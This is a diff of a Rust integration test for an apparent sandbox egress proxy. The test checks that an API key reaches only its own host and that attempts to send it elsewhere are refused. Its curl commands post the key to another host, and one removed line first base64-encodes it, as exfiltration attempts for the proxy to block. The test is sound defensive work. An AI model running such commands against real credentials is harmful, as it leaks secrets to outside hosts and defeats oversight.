@@ -123,17 +123,16 @@ fn the_real_claude_answers_without_a_terminal_and_its_key_goes_to_its_host_alone
         inside(&format!("curl -sS -m 20 -w ' %{{http_code}}' {more} -d '{{}}' https://{host}/v1/messages 2>&1"))
     };
     wait_for("the API", || post(API, "").contains("forty-two").then_some(()));
+    // It has a placeholder, which egress takes for the key at its host, and lets go nowhere else.
     let with_key = "-H \"x-api-key: $ANTHROPIC_API_KEY\"";
+    assert!(!inside("env").contains(&key()));
     assert!(post(API, with_key).contains("forty-two"), "{}", post(API, with_key));
     assert!(post(OTHER, "").contains("forty-two"));
     let refused = post(OTHER, with_key);
-    assert!(refused.contains("secret_found"), "{refused}");
-    let encoded =
-        inside(&format!("curl -sS -m 20 -d $(printf %s $ANTHROPIC_API_KEY | base64 -w0) https://{OTHER}/v1/messages"));
-    assert!(encoded.contains("secret_found"), "{encoded}");
-    // A similar secret must not go to this secret's host.
+    assert!(refused.contains("refused by bottler"), "{refused}");
+    // Another key of this form does not pass at the key's host.
     let similar = post(API, &format!("-H 'x-api-key: {}'", key().replace("0123", "3210")));
-    assert!(similar.contains("secret_found"), "{similar}");
+    assert!(similar.contains("refused by bottler"), "{similar}");
     let log = api.log();
     assert_eq!(log.matches("with the key").count(), 1, "{log}");
     // The real program shows the reason, does not blame the key, and does not retry.
